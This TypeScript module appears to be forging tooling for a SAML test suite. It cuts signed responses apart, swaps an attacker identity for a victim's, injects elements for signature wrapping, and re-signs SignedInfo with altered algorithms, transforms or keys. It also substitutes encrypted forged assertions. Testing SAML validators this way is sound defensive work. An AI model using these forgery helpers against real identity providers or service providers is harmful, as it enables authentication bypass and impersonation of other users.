// Tools of a forger: cutting signed XML apart, and signing what no signing library would sign.

import { constants, createHash, createSign, X509Certificate } from 'node:crypto'
import type { SamlKey } from '@rollcall/simulator'
import { DOMParser } from '@xmldom/xmldom'
import { ExclusiveCanonicalization } from 'xml-crypto'
import { encrypt } from 'xml-encryption'
import { type Context, mallory, mustChange, render, victim } from './context.ts'

/** A signed element and its parts; `unsigned` is the element without its signature. */
export interface Parts {
  readonly whole: string
  readonly element: string
  readonly signature: string
  readonly unsigned: string
  /** The same, about the victim and under other ids. */
  readonly evil: string
}

/** The first element of that qualified name, from its start tag to its last end tag. */
export function cut(xml: string, tag: string): string {
  const from = xml.search(new RegExp(`<${tag}[ >/]`))
  if (from < 0) throw new Error(`There is no ${tag}`)
  const end = `</${tag}>`
  return xml.slice(from, xml.lastIndexOf(end) + end.length)
}

function cutFirst(xml: string, tag: string): string {
  const from = xml.search(new RegExp(`<${tag}[ >/]`))
  const end = `</${tag}>`
  return xml.slice(from, xml.indexOf(end, from) + end.length)
}

/** Takes a signed response apart at its Assertion or its Response, whichever is signed. */
export async function takeApart(context: Context, what: 'response' | 'assertion'): Promise<Parts> {
  const whole = await render(context, { sign: what, responseId: '_response', assertionId: '_assertion' })
  const element = what === 'response' ? whole : cut(whole, 'saml:Assertion')
  const signature = cutFirst(element, 'ds:Signature')
  const unsigned = element.replace(signature, '')
  return { whole, element, signature, unsigned, evil: toEvil(unsigned) }
}

/** The same about the victim, its ids changed. */
export function toEvil(xml: string): string {
  return xml.replaceAll(mallory, victim).replaceAll(/ ID="([^"]*)"/g, ' ID="$1-evil"')
}

/** Puts something right after the Issuer that comes first. */
export function afterIssuer(xml: string, insert: string): string {
  return xml.replace('</saml:Issuer>', `</saml:Issuer>${insert}`)
}

/** Puts something before the last end tag of that name. */
export function beforeEnd(xml: string, tag: string, insert: string): string {
  const at = xml.lastIndexOf(`</${tag}>`)
  return xml.slice(0, at) + insert + xml.slice(at)
}

/** Replaces the signed Assertion of a response by what is made of its parts. */
export const onAssertion = (edit: (parts: Parts) => string) => async (context: Context) => {
  const parts = await takeApart(context, 'assertion')
  return parts.whole.replace(parts.element, () => edit(parts))
}

/** Puts something at the end of a Signature. */
export const inSignature = (signature: string, insert: string): string =>
  beforeEnd(signature, 'ds:Signature', insert)

/** Extensions of a Response, where a schema allows anything (SAML core §3.2.1). */
export const extensions = (inner: string): string => `<samlp:Extensions>${inner}</samlp:Extensions>`

// xml-crypto types DOM nodes by the browser's.
type Canonicalizable = Parameters<ExclusiveCanonicalization['process']>[0]

function canonicalize(xml: string, localName: string): string {
  const root = new DOMParser().parseFromString(xml, 'text/xml').documentElement
  const found = root.localName === localName ? root : root.getElementsByTagNameNS('*', localName)[0]
  return new ExclusiveCanonicalization().process(found as unknown as Canonicalizable, {})
}

/** The digest of the first element of that name, its own signatures taken out; base64. */
export function digest(xml: string, localName: string, algorithm: string): string {
  const bare = xml.replace(/<ds:Signature .*?<\/ds:Signature>/s, '')
  return createHash(algorithm).update(canonicalize(bare, localName)).digest('base64')
}

export interface Resign {
  /** The key that signs, if not the identity provider's. */
  readonly key?: SamlKey
  readonly hash?: string
  readonly sign?: (bytes: string) => string
}

/** Changes the first SignedInfo and signs it again: what a careless or captured signer would have sent. */
export function resign(
  context: Context,
  xml: string,
  edit: (signedInfo: string) => string,
  how: Resign = {},
): string {
  const old = cutFirst(xml, 'ds:SignedInfo')
  const changed = how.key === undefined && how.sign === undefined ? mustChange(old, edit(old)) : edit(old)
  const edited = xml.replace(old, () => changed)
  const bytes = canonicalize(edited, 'SignedInfo')
  const key = (how.key ?? context.idpKey).privateKeyPem
  const value =
    how.sign?.(bytes) ??
    createSign(how.hash ?? 'sha256')
      .update(bytes)
      .sign(key, 'base64')
  return edited.replace(
    /(<ds:SignatureValue>)[^<]*(<\/ds:SignatureValue>)/,
    (_, open, close) => open + value + close,
  )
}

/** Replaces one Algorithm of the first SignedInfo and signs again. */
export async function withAlgorithm(
  context: Context,
  element: 'CanonicalizationMethod' | 'SignatureMethod' | 'DigestMethod',
  algorithm: string,
  how: Resign = {},
): Promise<string> {
  const xml = await render(context, { sign: 'assertion' })
  const pattern = new RegExp(`(<ds:${element} Algorithm=")[^"]*`)
  return resign(context, xml, (info) => info.replace(pattern, `$1${algorithm}`), how)
}

/** Signs by RSASSA-PSS with SHA-256 and a salt of so many bytes. */
export const byPss =
  ({ idpKey }: Pick<Context, 'idpKey'>, saltLength: number) =>
  (bytes: string): string =>
    createSign('sha256')
      .update(bytes)
      .sign({ key: idpKey.privateKeyPem, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength }, 'base64')

/** Replaces the Transforms of the first SignedInfo and signs again. */
export async function withTransforms(context: Context, transforms: string): Promise<string> {
  const xml = await render(context, { sign: 'assertion' })
  const edit = (info: string) => info.replace(/<ds:Transforms>.*<\/ds:Transforms>/s, transforms)
  return resign(context, xml, edit)
}

/** An EncryptedAssertion around any text. */
export function encryptText(context: Context, text: string): Promise<string> {
  const options = {
    rsa_pub: new X509Certificate(context.spCertificate).publicKey
      .export({ type: 'spki', format: 'pem' })
      .toString(),
    pem: context.spCertificate,
    encryptionAlgorithm: 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
    keyEncryptionAlgorithm: 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
  } as const
  return new Promise((resolve, reject) => {
    encrypt(text, options, (error, data) => {
      if (error === null)
        resolve(
          `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${data.trim()}</saml:EncryptedAssertion>`,
        )
      else reject(error)
    })
  })
}

/** A signed response whose assertion is replaced by an encryption of the changed one; only the assertion is signed. */
export async function encryptChanged(context: Context, edit: (assertion: string) => string): Promise<string> {
  const { whole, element } = await takeApart(context, 'assertion')
  const encrypted = await encryptText(context, edit(element))
  return whole.replace(element, () => encrypted)
}
